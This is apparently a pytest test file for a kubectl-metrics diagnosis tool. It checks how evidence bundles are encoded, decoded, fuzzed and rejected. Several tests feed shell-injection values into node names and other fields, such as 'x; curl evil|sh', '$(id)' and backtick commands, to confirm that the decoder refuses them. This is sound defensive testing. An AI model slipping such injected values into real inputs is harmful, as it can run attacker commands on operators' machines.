"""An evidence as a file and back."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from kubectl_metrics.diagnosis import objects as k8s
from kubectl_metrics.diagnosis.bundles import bundle
from kubectl_metrics.diagnosis.bundles.bundle import decode, encode
from kubectl_metrics.diagnosis.bundles.redact import redact
from kubectl_metrics.diagnosis.evidence import Evidence
from kubectl_metrics.diagnosis.judge import judge
from kubectl_metrics.errors import DecodeError, MetricsError
from kubectl_metrics.output import documents
from tests.diagnosis.build import absent, failed, healthy, refused

READS = [name for name in Evidence.__struct_fields__ if isinstance(getattr(Evidence(), name), type(Evidence().nodes))]


def document(**changes: Any) -> bytes:
    """A bundle with other things at its top."""
    found = {**json.loads(encode(healthy())), **changes}
    return json.dumps({key: value for key, value in found.items() if value is not None}).encode()


def test_the_envelope() -> None:
    found = json.loads(encode(healthy()))
    assert (found["apiVersion"], found["kind"]) == (documents.API_VERSION, "Evidence")
    assert found["evidence"]["service"]["value"]["metadata"]["name"] == "metrics-server"


def test_what_comes_back_is_what_went_in() -> None:
    assert decode(encode(healthy())) == redact(healthy())


outcomes = st.sampled_from([absent, refused, failed])


@given(
    broken=st.dictionaries(st.sampled_from(READS), outcomes, max_size=6),
    dropped=st.sets(st.sampled_from(["node-a", "node-b", "node-c"])),
    text=st.text(),
)
def test_the_verdict_stays(broken: dict[str, Any], dropped: set[str], text: str) -> None:
    evidence = healthy()
    for name, outcome in broken.items():
        setattr(evidence, name, outcome(f"read {name}"))
    for name in ("nodes", "node_metrics"):
        read = getattr(evidence, name)
        if read.value is not None:
            kept = [one for one in read.value if one.metadata.name not in dropped]
            setattr(evidence, name, structs.replace(read, value=kept))
    if evidence.api_services.value:
        for one in evidence.api_services.value[0].status.conditions or ():
            one.status, one.message = "False", text
    evidence = redact(evidence)
    assert judge(decode(encode(evidence))) == judge(evidence)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the file is empty"),
        (b" \n", "the file is empty"),
        (encode(healthy())[:-20], "breaks off"),
        (encode(healthy())[:1000], "breaks off"),
        (b"\x1f\x8b\x08", "not JSON"),
        (b"apiVersion: kubectl-metrics/v1\n", "not JSON"),
        (b"<html>", "not JSON"),
        (b'{"kind":"\xff"}', "not JSON"),
        (document() + b"{}", "not JSON"),
        (b"[]", "not an evidence"),
        (b"null", "not an evidence"),
        (b"7", "not an evidence"),
        (b"{}", "not an evidence"),
        (b'{"apiVersion": 1e999}', "not what an evidence looks like"),
        (b'{"apiVersion": "v1", "kind": "Pod"}', "not an evidence but a Pod"),
        (document(apiVersion="v1", kind="List"), "not an evidence but a List"),
        (document(kind="NodeUsageList"), "not an evidence but a NodeUsageList"),
        (document(kind="Diagnosis"), "this is a verdict"),
        (document(kind=None), "not an evidence"),
        (document(kind=["x"]), "not an evidence"),
        (document(apiVersion="kubectl-metrics/v2"), "another version of kubectl-metrics (kubectl-metrics/v2)"),
        (document(apiVersion="kubectl-metrics/" + "9" * 1000), "another version of kubectl-metrics"),
        (document(evidence=None), "missing required field `evidence`"),
        (document(evidence=[]), "Expected `object`, got `array` - at `$.evidence`"),
        (document(evidence={"nodes": {"state": "ok", "value": [{"metadata": {"name": 7}}]}}), "got `int`"),
        (document(evidence={"nodes": {"state": "maybe"}}), "nodes has the state 'maybe'"),
        (document(evidence={"kubelets": [None]}), "got `null`"),
        (b'{"apiVersion":"kubectl-metrics/v1","kind":"Evidence","x":' + b"[" * 9999 + b"]" * 9999 + b"}", "too deeply"),
    ],
)
def test_what_is_no_bundle(data: bytes, message: str) -> None:
    with pytest.raises(DecodeError) as caught:
        decode(data, "b.json")
    assert message in caught.value.message
    assert caught.value.message.startswith("b.json: ")
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 200


def test_what_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle, "LIMIT", 1 << 20)
    with pytest.raises(DecodeError, match="larger than 1 MiB"):
        decode(b" " * (1 + (1 << 20)))


@given(st.binary(max_size=200) | st.integers(0, 20000).map(lambda at: encode(healthy())[:at]))
def test_any_file(data: bytes) -> None:
    with pytest.raises(MetricsError):
        decode(data)


@given(st.integers(min_value=0), st.binary(min_size=1, max_size=3))
def test_a_damaged_file_is_read_or_refused(at: int, junk: bytes) -> None:
    data = encode(healthy())
    at %= len(data)
    try:
        evidence = decode(data[:at] + junk + data[at + len(junk) :])
    except MetricsError:
        return
    judge(evidence)


def test_half_characters_do_not_keep_it_from_being_written() -> None:
    """Python's way of keeping bytes of the command line that are no UTF-8."""
    evidence = Evidence(in_depth="a\udcffb")
    evidence.connected.server = "\ud800"
    assert decode(encode(evidence)).connected.server == "?"


def test_what_is_not_known_is_left_out_and_a_byte_order_mark_too() -> None:
    found = json.loads(encode(healthy()))
    found["future"] = found["evidence"]["future"] = found["evidence"]["nodes"]["value"][0]["future"] = {"x": [1]}
    assert decode(b"\xef\xbb\xbf" + json.dumps(found).encode()) == redact(healthy())


BAD = ["x; curl evil|sh", "$(id)", "`id`", "a b", "x\ny", "a'b", 'a"b', "a>b", "\x1b[31m", "x&", "*"]


@pytest.mark.parametrize("name", BAD)
def test_a_name_that_a_shell_would_run_is_refused(name: str) -> None:
    """No API server accepts it, and remedies with names in them are pasted."""
    evidence = healthy()
    evidence.nodes.get()[1].metadata.name = name
    with pytest.raises(DecodeError, match="is no name"):
        decode(encode(evidence))


PLACES: dict[str, Callable[[Evidence], None]] = {
    "selector": lambda e: setattr(e.service.get().spec, "selector", {"x": "$(id)"}),
    "probe": lambda e: setattr(e.kubelets[0], "node", "$(id)"),
    "dialled": lambda e: setattr(e.kubelets[0].attempts[0], "address", "$(id)"),
    "namespace": lambda e: setattr(e.pods.get()[0].metadata, "namespace", "$(id)"),
    "label": lambda e: setattr(e.pods.get()[0].metadata, "labels", {"$(id)": "x"}),
    "address": lambda e: setattr(e.nodes.get()[0].status, "addresses", [k8s.Address(address="$(id)")]),
    "service": lambda e: setattr(e.api_services.get()[0].spec, "service", k8s.ServiceReference(name="$(id)")),
    "target": lambda e: setattr(e.hpas.get()[0].spec.scale_target_ref, "name", "$(id)"),
    "role": lambda e: setattr(e.cluster_role_bindings.get()[0].role_ref, "name", "$(id)"),
}


@pytest.mark.parametrize("place", PLACES)
def test_wherever_it_stands(place: str) -> None:
    evidence = healthy()
    PLACES[place](evidence)
    with pytest.raises(DecodeError, match="is no name"):
        decode(encode(evidence))


@pytest.mark.parametrize(
    "name",
    [
        "ip-10-0-0-1.eu-west-1.compute.internal",
        "system:controller:node-controller",
        "kubeadm:cluster-admins",
        "docker.io/library/x:1@sha256:0123",
        "fd00::1",
        "fe80::1%eth0",
        "Worker_1",
    ],
)
def test_names_that_there_are_stay(name: str) -> None:
    evidence = healthy()
    evidence.nodes.get()[1].metadata.name = name
    assert decode(encode(evidence)).nodes.get()[1].metadata.name == name


def test_a_bundle_reads_like_the_api() -> None:
    found = json.loads(encode(healthy()))["evidence"]
    node = found["nodes"]["value"][0]
    assert msgspec.json.decode(json.dumps(node), type=k8s.Node) == healthy().nodes.get()[0]
    assert node["status"]["daemonEndpoints"]["kubeletEndpoint"]["Port"] == 10250
    assert found["nodes"]["what"] == "list nodes"
    assert found["csrs"] == {
        "what": "list certificatesigningrequests", "state": "ok", "value": [], "status": 200, "seconds": 0.01,
    }  # fmt: skip


@pytest.mark.parametrize(
    "image", ["registry.example/metrics-server:{{ .Values.tag }}", "k8s.gcr.io/metrics-server:$(id)"]
)
def test_an_image_may_be_anything(image: str) -> None:
    """The API server takes it, and a Pod with such a one is what somebody saves a bundle for."""
    evidence = healthy()
    for pod in evidence.service_pods.get():
        for container in pod.spec.containers or ():
            container.image = image
    found = decode(encode(evidence))
    assert [one.image for one in found.service_pods.get()[0].spec.containers or ()] == [image]
    remedies = [one.remedy for one in judge(found).findings if image.rpartition(":")[2] in one.remedy]
    assert all(f"'metrics-server=registry.k8s.io/{image.partition('/')[2]}'" in remedy for remedy in remedies)
